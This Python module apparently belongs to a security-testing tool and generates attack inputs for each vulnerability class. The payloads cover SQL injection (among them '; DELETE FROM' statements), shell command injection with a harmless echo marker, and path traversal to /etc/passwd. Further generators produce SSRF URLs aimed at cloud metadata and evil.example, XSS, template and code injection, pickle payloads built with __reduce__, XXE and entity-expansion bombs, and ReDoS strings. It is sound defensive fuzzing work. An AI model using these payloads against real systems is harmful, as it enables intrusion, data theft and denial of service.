"""Hostile texts by the grammar of what they reach: a sink's language, and the ways out of the place a text stands in.

Each grammar is a generator of texts, likely ones first, named by the rules whose sinks speak that language. `Hints` are
what a program says of itself: its tables, its regular expressions. None of them is believed to be an attack: those
that change nothing are dropped (see `synthesis`).
"""

from __future__ import annotations

import ast
import base64
import pickle
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product

from codereal.analysis.ambiguity import HOW, ambiguity

MARK = "pwned31337"
_LINEAR, _DOUBLING = 20_000, 40  # repetitions of a pump that make a matcher slow: powers, exponents
_TABLE = re.compile(r"\b(?:FROM|INTO|UPDATE|JOIN)\s+([A-Za-z_]\w*)", re.IGNORECASE)
_SELECTED = re.compile(r"\bSELECT\s+(.*?)\s+FROM\b", re.IGNORECASE | re.DOTALL)


@dataclass(frozen=True, slots=True)
class Hints:
    """Tables and the numbers of columns in a program's SQL; its patterns, with the function that matches them."""

    tables: tuple[str, ...] = ()
    columns: tuple[int, ...] = (1,)
    patterns: tuple[tuple[str, str], ...] = ()

    @classmethod
    def of(cls, program: str) -> Hints:
        """What the program's constants say. Raises SyntaxError for what does not parse."""
        tree = ast.parse(program)
        constants = [node.value for node in ast.walk(tree) if isinstance(node, ast.Constant)]
        texts = [value for value in constants if isinstance(value, str)]
        tables = dict.fromkeys(name for text in texts for name in _TABLE.findall(text))
        columns = dict.fromkeys(found.count(",") + 1 for text in texts for found in _SELECTED.findall(text))
        patterns = [
            (node.args[0].value, node.func.attr)
            for node in ast.walk(tree)
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in HOW
            and node.args and isinstance(node.args[0], ast.Constant) and isinstance(node.args[0].value, str)
        ]  # fmt: skip
        return cls(tuple(tables), tuple(columns) or (1,), tuple(dict.fromkeys(patterns)))


def sql(hints: Hints) -> Iterator[str]:
    """Out of a quoted text, a pattern, a list or a number: a condition, another query, a second statement, an error."""
    tables = hints.tables[:2] or ("users",)
    bodies = [" OR 1=1"]
    bodies += [f" UNION SELECT {', '.join(['1'] * n)}" for n in hints.columns]
    bodies += [f" UNION SELECT {', '.join(['*', *['1'] * (n - 1)])} FROM {t}" for n in hints.columns for t in tables]
    bodies += [f"; DELETE FROM {table}" for table in tables]
    for close, body in product(("zz'", "0", "zz%'", "zz')", 'zz"'), bodies):
        yield f"{close}{body} -- "
    yield from ("zz' OR '1'='1", "zz%' OR '%'='", "0 OR 1=1", "'", "1'1")
    yield from ("id DESC LIMIT 1", "1e0", "0x1", "\\' OR 1=1 #")


def shell(hints: Hints) -> Iterator[str]:
    """Another command, in and out of quotes; an option; a glob."""
    for close, link in product(("a", "a'", 'a"'), (";", "\n", "&&", "||", "|", "&")):
        tail = close[1:] and f" {close[1:]}"
        yield f"{close}{link}echo {MARK}{tail}"
    yield from (f"$(echo {MARK})", f"`echo {MARK}`", f"a'$(echo {MARK})'")
    yield from ("--help", "--version", "-la", "*", "~", "$HOME")


def path(hints: Hints) -> Iterator[str]:
    """Up, absolute, in disguise."""
    targets = ("secret.txt", "etc/passwd", "etc/hostname")
    for up, target in product((1, 2, 3, 8), targets):
        yield "../" * up + target
    for target in targets[1:]:
        yield f"/{target}"
    yield from ("..", ".", "", "a/../../secret.txt", "..\\secret.txt", "....//secret.txt", "%2e%2e/secret.txt",
                "secret.txt\0.txt", "~root/.profile", "/proc/self/environ", "file:///etc/passwd")  # fmt: skip


def url(hints: Hints) -> Iterator[str]:
    """This machine and its like in every spelling; another host in the guise of a path."""
    hosts = ("127.0.0.1", "localhost", "[::1]", "0.0.0.0", "2130706433", "0x7f000001", "127.1", "[::ffff:127.0.0.1]",
             "169.254.169.254", "10.0.0.1", "192.168.0.1", "127.0.0.1.nip.io", "evil.example")  # fmt: skip
    yield from (f"http://{host}/" for host in hosts)
    yield from ("//evil.example", "/\\evil.example", "https:evil.example", "///evil.example", "\thttps://evil.example")
    yield from (
        "https://good.example@evil.example/",
        "https://evil.example#good.example",
        "https://good.example.evil.example/",
    )
    yield from ("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "gopher://127.0.0.1:70/")


def markup(hints: Hints) -> Iterator[str]:
    """Out of text, an attribute, a comment, a script; a link that runs."""
    closes = ("", '">', "'>", "-->", "</script>", "</title>")
    yield from (close + body for close, body in product(closes, ("<script>alert(1)</script>", "<b>x</b>")))
    yield from ('" onload="x', "' onload='x", "javascript:alert(1)", "&lt;b&gt;", "<img src=x onerror=x>", "<!--")


def template(hints: Hints) -> Iterator[str]:
    """Expressions of template languages, and of `format` and `%`."""
    yield from (
        "{{7*7}}",
        "${7*7}",
        "{0.__class__}",
        "{x.__class__.__init__.__globals__}",
        "{0}",
        "{x!r}",
        "{",
        "%(x)s",
    )
    yield from ("%s", "<%= 7*7 %>", "#{7*7}", "{% print(7*7) %}", "{self}", "$x", "{:>999999}")


def code(hints: Hints) -> Iterator[str]:
    """Expressions that do something when they are evaluated."""
    yield from (f"dict({MARK}=1)", f"list(({MARK!r},))", "len('abc')", f"{{{MARK!r}: abs(-1)}}", f"[chr(65), {MARK!r}]")
    yield from ("__import__('os').getcwd()", f"print('{MARK}')", "().__class__.__base__.__subclasses__()")
    yield from ("open('/etc/passwd').read()", "[x for x in (1,)]", "1 if True else 0", "lambda: 0", "9**9**5")
    yield f"exec('print(1)') or '{MARK}'"


def serialized(hints: Hints) -> Iterator[str]:
    """Pickles that call a function (as text: protocol 0, hexadecimal, base64), and tags of YAML."""
    for protocol, (make, given) in product((0, 4), _MADE):
        data = pickle.dumps(_Reduced(make, given), protocol)
        yield data.decode("latin-1")
        yield base64.b64encode(data).decode()
        yield data.hex()
    yield from (f"!!python/object/apply:builtins.str ['{MARK}']", "!!python/name:builtins.str", *code(hints))


# What a pickle becomes by way of a call, in the kinds that programs go on with: harmless, and seen in what comes back.
_MADE: tuple[tuple[Callable[..., object], object], ...] = (
    (str, MARK),
    (dict, ((MARK, 1),)),
    (list, (MARK,)),
    (len, MARK),
)


class _Reduced:
    def __init__(self, make: Callable[..., object], given: object) -> None:
        self._call = make, (given,)

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object]]:
        return self._call


def xml(hints: Hints) -> Iterator[str]:
    """Entities from files, inside and outside of the document, and such that grow."""
    for uri in ("file:///etc/hostname", "secret.txt", "file:///etc/passwd"):
        yield f'<!DOCTYPE a [<!ENTITY b SYSTEM "{uri}">]><a>&b;</a>'
        yield f'<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include parse="text" href="{uri}"/></a>'
        yield f'<!DOCTYPE a SYSTEM "{uri}"><a/>'
    grown = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 7))
    yield f'<!DOCTYPE a [<!ENTITY e0 "xxxxxxxxxx">{grown}]><a>&e6;</a>'


def regex(hints: Hints) -> Iterator[str]:
    """Texts that the analysis makes for the program's own patterns, which these take forever to refuse."""
    for pattern, how in hints.patterns:
        found = ambiguity(pattern, 0, how)
        if found is not None:
            times = _DOUBLING if found.kind == "exponential" else _LINEAR
            yield found.prefix + found.pump * times + found.suffix
    yield from ("a" * 40 + "!", " " * _LINEAR + "x", "0" * _LINEAR + "x", "(a+)+$", "(")


def line(hints: Hints) -> Iterator[str]:
    """A line of one's own, in a log, a header or a file of lines."""
    yield from (f"a\n{MARK}", f"a\r\nX-{MARK}: 1", f"a\r{MARK}", f"a\u2028{MARK}", f"a%0d%0a{MARK}")
    yield from ("\x1b[2J", "=1+1", "@SUM(1)")


def large(hints: Hints) -> Iterator[str]:
    """Much of something."""
    yield from ("9" * 400, "1e308", "-1", "9999999999", "1e999", "nan", "x" * 100_000, "0" * 30 + "1", "[" * 2000)


GRAMMARS: dict[str, tuple[Callable[[Hints], Iterator[str]], ...]] = {
    "sql-injection": (sql,),
    "nosql-injection": (sql,),
    "command-injection": (shell,),
    "argument-injection": (shell,),
    "path-traversal": (path,),
    "unsafe-archive": (path,),
    "unrestricted-upload": (path,),
    "server-side-request-forgery": (url,),
    "open-redirect": (url,),
    "script-url": (url, markup),
    "cross-site-scripting": (markup,),
    "template-injection": (template, markup),
    "format-string-exposure": (template,),
    "code-injection": (code,),
    "unsafe-deserialization": (serialized,),
    "xml-external-entities": (xml,),
    "inefficient-regex": (regex,),
    "regex-injection": (regex,),
    "log-injection": (line,),
    "header-injection": (line,),
    "spreadsheet-formula": (line,),
    "unbounded-work": (large,),
    "unbounded-growth": (large,),
}
# What families of tasks are called, here and elsewhere: for weaknesses that no finding names.
FAMILIES: dict[str, tuple[str, ...]] = {
    "request-forgery": ("server-side-request-forgery", "open-redirect"),
    "ssrf": ("server-side-request-forgery",),
    "markup-injection": ("cross-site-scripting", "template-injection"),
    "deserialisation": ("unsafe-deserialization", "code-injection"),
    "deserialization": ("unsafe-deserialization", "code-injection"),
    "xml-entities": ("xml-external-entities",),
    "xxe": ("xml-external-entities",),
    "regex-time": ("inefficient-regex",),
    "redos": ("inefficient-regex",),
    "resource-limits": ("unbounded-work",),
}


def texts(sinks: tuple[str, ...], hints: Hints) -> Iterator[str]:
    """Hostile texts for the sinks, which are rules or families, in turns; none twice."""
    rules = dict.fromkeys(rule for sink in sinks for rule in FAMILIES.get(sink, (sink,)))
    sources = [grammar(hints) for grammar in dict.fromkeys(g for rule in rules for g in GRAMMARS.get(rule, ()))]
    seen: set[str] = set()
    while sources:
        for source in list(sources):
            text = next(source, None)
            if text is None:
                sources.remove(source)
            elif text not in seen:
                seen.add(text)
                yield text
